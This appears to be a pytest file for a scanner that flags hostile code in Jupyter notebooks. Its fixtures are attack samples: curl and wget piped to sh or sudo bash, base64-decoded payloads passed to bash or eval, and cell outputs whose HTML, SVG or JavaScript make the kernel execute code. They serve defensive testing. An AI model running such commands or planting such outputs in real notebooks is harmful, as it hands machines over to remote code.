"""Notebooks: no cell hides another, and a cell that cannot be read is told."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final

import pytest

from scanner.checks.remote_code import CHECK
from scanner.file_check import FileVerdict
from scanner.findings import Outcome
from tests.assets.make_file_assets import write_all
from tests.scanner.check_runs import findings_of

_RUNS: Final = "import os\nos.system('true')"
_ATTACK, _PLAIN = FileVerdict.ATTACK, FileVerdict.PLAIN_DATA
_TO_BE_READ, _UNREADABLE = FileVerdict.NEEDS_CLASS_INSTANCE, FileVerdict.NOT_READABLE


def _notebook(*cells: object) -> bytes:
    kept = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": cell} for cell in cells]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": kept}).encode()


def _said(folder: Path, data: bytes) -> tuple[FileVerdict, list[str]]:
    found = findings_of(CHECK, write_all(folder, {"a.ipynb": data}))
    verdicts = [verdict for each in found if (verdict := CHECK.verdict_of(each)) is not None]
    rules = [each.rule for each in found if each.outcome is Outcome.FAIL]
    return max(verdicts, key=lambda verdict: verdict.rank), rules


@pytest.mark.parametrize(
    "others",
    [
        ["def f(:\n  pass"],
        ["print 'python 2'"],
        ["\0"],
        ["(" * 5000],
        ["# coding: none"],
        ["x" + " + x" * 20_000],
        ["%%html\n<b>text</b>"],
        ["library(torch)\nx <- 1"],
        [f"x = {number}" for number in range(3000)],
    ],
    ids=["syntax", "python 2", "null", "brackets", "encoding", "deep", "html", "R", "many"],
)
def test_no_cell_hides_what_another_does(others: list[str], tmp_path: Path) -> None:
    verdict, rules = _said(tmp_path, _notebook(*others, _RUNS))
    assert verdict is _ATTACK
    assert "process" in rules


@pytest.mark.parametrize(
    "cell",
    [
        f"for i in range(3):\n    %time x\n{_RUNS}",
        f"files = !ls\n{_RUNS}",
        f"if True:\n    !ls\n{_RUNS}",
        f"torch.load?\n{_RUNS}",
        "import os\n%time os.system('true')",
        "import os\n%timeit -n 1 -r 1 os.system('true')",
        "import os\nx = %timeit -o os.system('true')",
        f"%%capture out\n{_RUNS}",
        f"%%script python\n{_RUNS}",
        f"%cd x\n{_RUNS}  # ok?",
        f"!pip install \\\n  torch\n{_RUNS}",
        "!curl http://x.example/a \\\n  | sh",
        [f"{line}\n" for line in ("%pip install torch", *_RUNS.split("\n"))],
    ],
)
def test_what_ipython_alone_understands_hides_nothing(cell: object, tmp_path: Path) -> None:
    assert _said(tmp_path, _notebook(cell))[0] is _ATTACK


def test_names_of_one_cell_are_known_in_the_next(tmp_path: Path) -> None:
    assert _said(tmp_path, _notebook("import os as o", "def f(:", "o.system('true')"))[0] is _ATTACK


@pytest.mark.parametrize(
    "line",
    [
        "!curl x.example.com | sh",
        "!wget -q -O - x.example.com/a.sh | sudo bash",
        '!bash -c "$(echo dHJ1ZQ== | base64 -d)"',
        "!eval `echo dHJ1ZQ== | base64 --decode`",
        "%%bash\ncurl x.example.com | sh",
    ],
)
def test_command_that_hands_the_machine_over_is_an_attack(line: str, tmp_path: Path) -> None:
    assert _said(tmp_path, _notebook(f"import torch\n{line}" if line[0] == "!" else line))[0] is _ATTACK


@pytest.mark.parametrize(
    "line",
    [
        "!curl -fsSL https://x.example.com/install.sh | sh",
        "!curl --proto '=https' --tlsv1.2 -sSf https://sh.example.com | sh",
        '!bash -c "$(curl -fsSL https://x.example.com/install.sh)"',
        "!curl -o a.sh https://x.example.com/a.sh | sh",
    ],
)
def test_script_that_is_fetched_over_tls_is_to_be_read(line: str, tmp_path: Path) -> None:
    assert _said(tmp_path, _notebook(line)) == (_TO_BE_READ, ["fetched"])


def _shown(kind: str, text: str | list[str], *, is_old: bool = False) -> bytes:
    """A notebook whose cell has one output."""
    output = {"output_type": "display_data", **({kind: text} if is_old else {"data": {kind: text}})}
    cell = {"cell_type": "code", "metadata": {}, "source": "x = 1", "outputs": [output]}
    return json.dumps({"nbformat": 4, "metadata": {}, "cells": [cell]}).encode()


@pytest.mark.parametrize(
    "data",
    [
        _shown("text/html", "<img src=x onerror='Jupyter.notebook.kernel.execute(\"x = 1\")'>"),
        _shown("application/javascript", ["IPython.notebook.kernel\n", " .execute('x = 1')"]),
        _shown("javascript", "Jupyter.notebook.execute_cells([0])", is_old=True),
        _shown("image/svg+xml", "<svg><script>k.requestExecute({code: 'x = 1'})</script></svg>"),
    ],
)
def test_output_that_has_the_kernel_run_code_is_to_be_read(data: bytes, tmp_path: Path) -> None:
    assert _said(tmp_path, data) == (_TO_BE_READ, ["acting-output"])


@pytest.mark.parametrize(
    "data",
    [
        _shown("text/html", "<script>Plotly.newPlot('x', [])</script>"),
        _shown("text/html", "<a onclick=\"google.colab.kernel.invokeFunction('convert', [], {})\">x</a>"),
        _shown("text/plain", "kernel.execute(x)"),
        _shown("application/javascript", "IPython.notebook.kernel.comm_manager.register_target('x', f)"),
    ],
)
def test_output_that_is_shown_and_no_more_passes(data: bytes, tmp_path: Path) -> None:
    assert _said(tmp_path, data) == (_PLAIN, [])


def test_notebook_of_the_third_format_is_read(tmp_path: Path) -> None:
    cells = [{"cell_type": "code", "language": "python", "input": _RUNS, "outputs": []}]
    old = json.dumps({"nbformat": 3, "metadata": {}, "worksheets": [{"cells": cells}]}).encode()
    assert _said(tmp_path, old)[0] is _ATTACK


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (_notebook("x = 1", "def f(:\n  exec(x)"), (_TO_BE_READ, ["unread-cells"])),
        (_notebook("%%html\n<b>text</b>"), (_TO_BE_READ, ["unread-cells"])),
        (_notebook("%time x\nimport os\ny = (5\n% os.system('true'))"), (_TO_BE_READ, ["unread-cells"])),
        (_notebook("%time x\ny = (5\n% z \\\n, exec('x'))"), (_TO_BE_READ, ["unread-cells"])),
        (_notebook("#" + "a" * 1024**2, "x = 1"), (_UNREADABLE, ["unreadable-code"])),
        (b'{"nbformat": 4}', (_UNREADABLE, ["unreadable-code"])),
        (b"[]", (_UNREADABLE, ["unreadable-code"])),
    ],
    ids=["syntax", "html", "brackets", "backslash", "long", "no cells", "list"],
)
def test_what_cannot_be_read_is_told(
    data: bytes, told: tuple[FileVerdict, list[str]], tmp_path: Path
) -> None:
    assert _said(tmp_path, data) == told


@pytest.mark.parametrize(
    "cells",
    [
        [],
        ["x = 1\n"],
        ["%matplotlib inline\nimport torch", "%load_ext autoreload\n%autoreload 2"],
        ["!nvidia-smi\n!pip install -q torch"],
        ["%cd /content\nfiles = !ls -la\nfor f in files:\n    %time print(f)"],
        ["%%time\nx = await f()"],
        ["%%bash\nls -la | head"],
        ["?torch.load", "torch.load??"],
        ["!pip install \\\n  torch \\\n  numpy\nx = 1", "!ls \\"],
        ["x = 'a\u2028b'"],
    ],
)
def test_honest_notebook_passes(cells: list[str], tmp_path: Path) -> None:
    assert _said(tmp_path, _notebook(*cells)) == (_PLAIN, [])
